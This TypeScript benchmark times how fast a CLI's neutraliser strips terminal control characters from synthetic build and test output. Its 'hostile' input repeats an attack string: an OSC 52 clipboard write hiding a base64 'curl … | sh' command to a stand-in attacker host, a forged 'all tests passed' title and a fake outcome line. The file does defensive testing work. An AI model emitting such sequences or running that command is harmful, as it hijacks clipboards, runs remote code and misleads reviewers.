/**
 * What showing control characters as marks costs on a gate's output
 * (docs/architecture.md, "Text bound for a person"). Not a test: it prints
 * throughputs measured side by side in one run.
 *
 *   npm run bench -- neutralise
 *
 * 1 GiB of gate output per kind of output, made in memory as 64 KiB chunks
 * (a pipe's read; 16 different chunks, repeated) and never written to disk:
 *
 * - plain: a build log, printable ASCII only;
 * - test runner: mocha's spec lines with ✔ and colours (ESC sequences), as
 *   a runner prints when it thinks it writes to a terminal;
 * - hostile: the same with one line in 100 an attack (OSC 52, a title, a
 *   fake outcome line, C1 and DEL).
 *
 * Each chunk goes, in turn, through: the plain pass-through (the chunk made
 * into the bytes a stream writes, `Buffer.from`, as the CLI did before);
 * the neutraliser alone (`visibleText`, layout kept); and the whole of what
 * the CLI writes (`TerminalRows.stream`: the neutraliser, then the `│ `
 * prefix on every row, for a pipe and for a terminal 120 columns wide),
 * each made into bytes as the CLI makes them (`utf8Bytes`); and the CLI's
 * stdout itself (`CliStream`: redaction by whole lines with one key known,
 * then all of the above), to a pipe that takes everything. The passes are
 * interleaved 64 MiB at a time, so a change in the machine's load falls on
 * all of them alike. Printed: MB/s of each, and each against the
 * pass-through. `CANDOR_BENCH_BYTES` sets a smaller amount for a quick look.
 */
import { CliStream, utf8Bytes } from '../src/cli/output';
import { SecretSet } from '../src/core/redact';
import { TerminalRows } from '../src/core/terminalRows';
import { visibleText } from '../src/shared/visibleText';

const CHUNK_BYTES = 64 * 1024;
const TOTAL_BYTES = Number(process.env.CANDOR_BENCH_BYTES ?? 1024 ** 3);
const ROUND_BYTES = 64 * 1024 ** 2;
const DISTINCT_CHUNKS = 16;

/** A small deterministic generator, so every run measures the same text. */
function generator(seed: number): () => number {
  let state = seed;
  return () => (state = (state * 1103515245 + 12345) % 2 ** 31);
}

const WORDS = ['parses', 'the', 'config', 'file', 'when', 'a', 'key', 'is', 'missing', 'returns', 'an', 'error', 'for', 'empty', 'input', 'greets', 'user', 'by', 'name'];

function sentence(next: () => number, words: number): string {
  return Array.from({ length: words }, () => WORDS[next() % WORDS.length]).join(' ');
}

type Kind = 'plain' | 'test runner' | 'hostile';

const ATTACK = '\u001b]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQvcCB8IHNo\u0007\u001b]0;all tests passed\u0007\noutcome: shipped — rant addressed\n\u009b2J\u007f\u001b[8m';

function line(kind: Kind, next: () => number, n: number): string {
  if (kind === 'plain') return `[${String(n).padStart(6, '0')}] compiling src/module${next() % 400}.ts: ${sentence(next, 6 + (next() % 8))}\n`;
  if (kind === 'hostile' && n % 100 === 99) return `${ATTACK}\n`;
  const ms = next() % 40;
  return `  \u001b[32m  ✔\u001b[0m\u001b[90m ${sentence(next, 4 + (next() % 6))}\u001b[0m${ms > 20 ? `\u001b[33m (${ms}ms)\u001b[0m` : ''}\n`;
}

/** Chunks of about 64 KiB, cut at any point (a pipe does not care about lines). */
function chunks(kind: Kind): string[] {
  const next = generator(kind.length * 7919);
  let text = '';
  for (let n = 0; Buffer.byteLength(text) < CHUNK_BYTES * DISTINCT_CHUNKS + CHUNK_BYTES; n++) text += line(kind, next, n);
  const out: string[] = [];
  const bytes = Buffer.from(text);
  for (let i = 0; i < DISTINCT_CHUNKS; i++) out.push(bytes.subarray(i * CHUNK_BYTES, (i + 1) * CHUNK_BYTES).toString('utf8'));
  return out;
}

interface Pass {
  readonly name: string;
  /** A function that takes a chunk and returns the bytes it wrote for it. */
  readonly make: () => (chunk: string) => { readonly length: number };
}

const PASSES: readonly Pass[] = [
  { name: 'pass-through', make: () => (chunk) => Buffer.from(chunk) },
  { name: 'neutraliser (visibleText)', make: () => (chunk) => utf8Bytes(visibleText(chunk, { keepLayout: true })) },
  {
    name: 'terminal rows, a pipe',
    make: () => {
      const rows = new TerminalRows();
      return (chunk) => utf8Bytes(rows.stream(chunk));
    },
  },
  {
    name: 'terminal rows, 120 columns',
    make: () => {
      const rows = new TerminalRows(() => 120);
      return (chunk) => utf8Bytes(rows.stream(chunk));
    },
  },
  {
    // All of it, as the CLI's stdout does it to a pipe: redaction by whole lines (one key known), then the above.
    name: "the CLI's stdout, a pipe",
    make: () => {
      let written = 0;
      const sink = { write: (bytes: Uint8Array, done: () => void) => ((written += bytes.length), done(), true), once: () => undefined };
      const out = new CliStream(sink, new SecretSet(['sk-bench-not-a-real-key-0123456789']), { backlogBytes: 2 ** 40 });
      return (chunk) => {
        const before = written;
        out.stream(chunk);
        return { length: written - before };
      };
    },
  },
];

/** Seconds each pass took over TOTAL_BYTES of `kind`, and the bytes it wrote. */
function measure(kind: Kind): Array<{ name: string; seconds: number; written: number }> {
  const data = chunks(kind);
  const inBytes = data.map((chunk) => Buffer.byteLength(chunk));
  const runs = PASSES.map((pass) => ({ name: pass.name, run: pass.make(), seconds: 0, written: 0 }));
  let done = 0;
  let at = 0;
  while (done < TOTAL_BYTES) {
    const start = at;
    let round = 0;
    for (const pass of runs) {
      at = start;
      round = 0;
      const t0 = process.hrtime.bigint();
      while (round < ROUND_BYTES) {
        const i = at++ % data.length;
        pass.written += pass.run(data[i] as string).length;
        round += inBytes[i] as number;
      }
      pass.seconds += Number(process.hrtime.bigint() - t0) / 1e9;
    }
    done += round;
  }
  return runs.map(({ name, seconds, written }) => ({ name, seconds: (seconds * TOTAL_BYTES) / done, written }));
}

export async function run(): Promise<void> {
  console.log(`gate output: ${TOTAL_BYTES / 1024 ** 3} GiB of each kind, in ${CHUNK_BYTES / 1024} KiB chunks made in memory, every pass over the same bytes`);
  for (const kind of ['plain', 'test runner', 'hostile'] as const) {
    console.log(`\n${kind}:`);
    const results = measure(kind);
    const base = results[0]?.seconds ?? 1;
    for (const r of results) {
      const mbps = TOTAL_BYTES / r.seconds / 1e6;
      console.log(`  ${r.name.padEnd(28)} ${mbps.toFixed(0).padStart(6)} MB/s  ${(base / r.seconds).toFixed(3).padStart(6)}× the pass-through's rate`);
    }
  }
  await Promise.resolve();
}

if (require.main === module) void run();
